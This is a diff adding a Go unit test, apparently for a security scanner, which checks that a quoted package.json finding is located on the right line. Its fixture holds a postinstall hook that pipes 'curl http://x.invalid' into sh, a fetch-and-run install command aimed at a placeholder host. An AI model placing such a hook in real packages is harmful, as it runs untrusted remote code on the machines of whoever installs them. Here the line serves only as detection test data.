@@ -33,3 +33,12 @@ func TestInContextMarksTheExcerpt(t *testing.T) {
 		t.Fatalf("an excerpt not in the file gave %+v, want a note", miss)
 	}
 }
+
+// A package.json finding quotes "<field>: <value>": the value is found.
+func TestInContextFindsAPackageJSONQuote(t *testing.T) {
+	var c FindingContext
+	inContext(&c, []byte("{\n  \"scripts\": {\n    \"postinstall\": \"curl http://x.invalid | sh\"\n  }\n}\n"), "postinstall: curl http://x.invalid | sh")
+	if c.Note != "" || len(c.Match) != 1 || c.First+c.Match[0] != 3 {
+		t.Fatalf("context = %+v, want line 3 marked", c)
+	}
+}
